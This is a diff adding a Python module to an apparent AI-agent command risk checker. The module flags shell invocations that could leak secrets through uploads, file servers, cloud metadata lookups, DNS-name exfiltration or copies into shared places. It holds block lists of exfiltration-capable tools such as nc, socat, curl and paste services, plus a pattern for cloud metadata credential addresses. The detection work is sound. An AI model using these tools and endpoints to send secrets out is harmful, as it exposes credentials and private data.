@@ -1,0 +1,195 @@
+"""What leaves the machine by programs that send, serve, look up or copy: secrets in their words and in their input."""
+
+from __future__ import annotations
+
+import re
+from itertools import pairwise
+from typing import TYPE_CHECKING
+
+from agent.risk.invocation import Invocation
+from agent.risk.knowledge_store import Program
+from agent.risk.scopes import absolute
+from agent.risk.words import Word
+
+if TYPE_CHECKING:
+    from agent.risk.walk import Walker
+
+_NETWORKED = frozenset(
+    (
+        "ping",
+        "telnet",
+        "ssh",
+        "http",
+        "aria2c",
+        "mosquitto_pub",
+        "nmap",
+        "wget",
+        "curl",
+        "nc",
+        "scp",
+        "socat",
+        "mail",
+        "mosquitto_sub",
+    )
+)
+_BY_NAME = frozenset(("getent", "xdg-open", "open", "gio-open", "firefox", "chromium", "google-chrome", "w3m", "lynx", "links", "elinks",
+                      "browsh", "git", "ssh-keyscan", "resolvectl", "systemd-resolve"))  # fmt: skip
+_COPIERS = frozenset(("cp", "mv", "tar", "zip", "install", "rsync", "dd", "cpio", "ffmpeg"))
+_SENDERS = frozenset(
+    ("gsutil", "gcloud", "az", "azcopy", "s3cmd", "s5cmd", "s4cmd", "b2", "mc", "rclone", "gh", "glab", "hub", "ftp", "sftp",
+     "lftp", "tftp", "ncftpput", "ncftp", "smbclient", "mutt", "neomutt", "swaks", "sendemail", "telnet", "finger", "whois",
+     "pastebinit", "pbpst", "wgetpaste", "gist", "termbin", "wormhole", "croc", "ffsend", "transfer", "ipfs", "gdrive", "dropbox",
+     "telegram-send", "slack", "slackcat", "http", "https", "httpie", "xh", "xhs", "curlie", "oci", "aliyun", "ossutil", "coscmd",
+     "megaput", "mega-put", "onedrive", "syncthing", "udp-sender", "bbcp", "uucp", "uux", "socat", "websocat", "mosquitto_pub",
+     "kafkacat", "kcat", "msmtp", "sendmail", "mailx", "s-nail", "mpack")
+)  # fmt: skip
+_SERVERS = frozenset(
+    ("httpd", "http-server", "serve", "live-server", "webfsd", "darkhttpd", "miniserve", "dufs", "twistd", "thttpd", "mini_httpd",
+     "simple-http-server", "gohttpserver", "uftpd")
+)  # fmt: skip
+_FETCHERS = frozenset(
+    ("curl", "wget", "http", "https", "xh", "xhs", "curlie", "aria2c", "lynx", "w3m", "links", "nc", "fetch", "GET")
+)  # fmt: skip
+_METADATA = re.compile(
+    r"(?:https?://)?(?:169\.254\.169\.254|169\.254\.170\.2|100\.100\.100\.200|metadata\.google\.internal|metadata\.goog"
+    r"|\[?fd00:ec2::254\]?)(?![\w.])"
+)
+# What follows these is what a program logs in or is set up with, not what it sends.
+_LOGS_IN = re.compile(
+    r"-i$|-c$|-K$|--?[\w-]*(?:key|cert|identity|config|cred|token|profile|password|auth|netrc|cacert|rc)[\w-]*(?:=|$)"
+)
+
+
+def judge_leaks(walker: Walker, name: str, invocation: Invocation, table: Program | None) -> None:
+    """Secrets that `name` would send, serve or tell."""
+    if name in _SENDERS:
+        _judge_sender(walker, invocation)
+    if name in _SERVERS:
+        judge_served(walker, invocation, _served_folder(invocation))
+    if name in _FETCHERS:
+        judge_metadata(walker, invocation)
+    if (table is not None and table.name in _NETWORKED) or name in _BY_NAME:
+        _judge_told_words(walker, name, invocation)
+
+
+def metadata(word: Word) -> bool:
+    """Whether `word` is an address of a cloud's metadata service."""
+    return _METADATA.match(word.text) is not None
+
+
+def judge_metadata(walker: Walker, invocation: Invocation) -> None:
+    """Addresses inside a cloud that hand out credentials to whoever asks."""
+    asked = [word for word in invocation.words[1:] if metadata(word)]
+    if asked:
+        reason = "asks the cloud's metadata service, which hands out credentials"
+        walker.add("secret", asked, invocation.place, reason=reason, rule="secret.metadata")
+
+
+def _judge_sender(walker: Walker, invocation: Invocation) -> None:
+    """A program that uploads: is a secret among its words, in what it reads, or in the commands it reads?"""
+    text, taint = invocation.stdin or ("", "")
+    if "secret" in taint:
+        walker.add("send-secret", [], invocation.place, invocation=invocation)
+        return
+    named = _paths(invocation.words[1:])
+    for found in re.finditer(r"(?:^|[\n;])\s*m?(?:put|reput|send|append)\s+(?:-\w+\s+)*(\S+)", text or ""):
+        named.append(invocation.words[0].part(found.group(1)))
+    secret = [word for word in named if "secret" in word.taint or is_kept(walker, invocation, word)]
+    if secret:
+        reason = "sends {targets}, which is secret, over the network"
+        walker.add("send-secret", secret, invocation.place, reason=reason, invocation=invocation)
+
+
+def _paths(words: list[Word]) -> list[Word]:
+    """Words that may name what is sent: not what a program logs in with, and without `@`, `name=` and the like."""
+    found: list[Word] = []
+    skip = False
+    for word in words:
+        text = word.text
+        if skip or _LOGS_IN.match(text):
+            skip = not skip and "=" not in text
+            continue
+        for piece in {
+            text,
+            text.partition("=")[2],
+            text.rpartition("@")[2],
+            text.rpartition("<")[2],
+            *text.split()[1:],
+        }:
+            if piece and ("/" in piece or "." in piece):
+                found.append(word.part(piece))
+    return found
+
+
+def is_kept(walker: Walker, invocation: Invocation, word: Word) -> bool:
+    """Whether `word` names a file or folder whose content is secret."""
+    return walker.rater.scopes.of(word, invocation.cwd) in ("secrets", "account", "account-secret", "history")
+
+
+def judge_served(walker: Walker, invocation: Invocation, folder: Word) -> None:
+    """A folder opened to the network: whose secrets are below it?"""
+    scope = walker.rater.scopes.of(folder, invocation.cwd, recursive=True)
+    if scope in ("secrets", "account", "account-secret", "history", "home-all", "everything", "config", "vcs") or (
+        scope == "system" and not folder.text.startswith(("/var/www", "/srv", "/usr/share"))
+    ):
+        reason = "lets the network read {targets}, secrets and all"
+        walker.add("send-secret", [folder], invocation.place, reason=reason, rule="secret.served")
+
+
+def _served_folder(invocation: Invocation) -> Word:
+    words = invocation.words[1:]
+    for word, following in pairwise(words):
+        if word.text in ("-h", "-d", "-t", "--directory", "--root", "--dir", "-r", "--path"):
+            return following
+    for word in words:
+        if "=" in word.text and word.text.startswith(("--directory", "--root", "--dir", "--path")):
+            return word.part(word.text.partition("=")[2])
+    operands = [
+        word
+        for before, word in pairwise(invocation.words)
+        if not (word.text.startswith("-") or before.text.startswith("-"))
+    ]
+    return operands[-1] if operands else Word(invocation.cwd, *invocation.place)
+
+
+def _judge_told_words(walker: Walker, program: str, invocation: Invocation) -> None:
+    """Data in an address or a name leaves the machine when it is looked up: `dig $(cat f).example.org`."""
+    words = invocation.words[1:]
+    if program == "git":  # its other words stay here
+        words = [word for word in words if "://" in word.text]
+    if any("secret" in word.taint for word in words):
+        walker.add("send-secret", [], invocation.place, invocation=invocation)
+        return
+    told = [word for word in words if _tells(word)]
+    if told:
+        reason = "tells the network what it read here, as a part of {targets}"
+        walker.add("send", told, invocation.place, reason=reason, rule="send.name", invocation=invocation)
+
+
+def _tells(word: Word) -> bool:
+    """Whether a word that goes to the network holds what a command printed: of a file, or built into a name or address."""
+    taints = word.taint.split()
+    if "file" in taints:
+        return True
+    if word.known or not {"cmd", "input", "found", "listed"}.intersection(taints):
+        return False
+    return re.search(r"\0[\w-]*\.[\w.-]*[A-Za-z]|://[^\0]*/[^\0]*\0|://\0\.", word.text) is not None
+
+
+def secrets_stored(walker: Walker, invocation: Invocation, table: Program, before: int) -> None:
+    """A copy of a secret in a place that others read is a secret given away."""
+    if table.name not in _COPIERS:
+        return
+    effects = [finding.effect for finding in walker.findings[before:] if finding.effect is not None]
+    if not any(effect.kind == "secret" for effect in effects):
+        return
+    for effect in effects:
+        if effect.kind not in ("write", "copy-to"):
+            continue
+        scopes = walker.rater.scopes
+        shared = any(scopes.public(absolute(text, invocation.cwd)) for text in effect.targets)
+        if shared or effect.scope in ("temp", "outside", "users", "system", "remote"):
+            targets = [Word(text, *invocation.place) for text in effect.targets]
+            reason = "stores secrets in {targets}"
+            walker.add("send-secret", targets, invocation.place, reason=reason, rule="secret.stored")
+            return
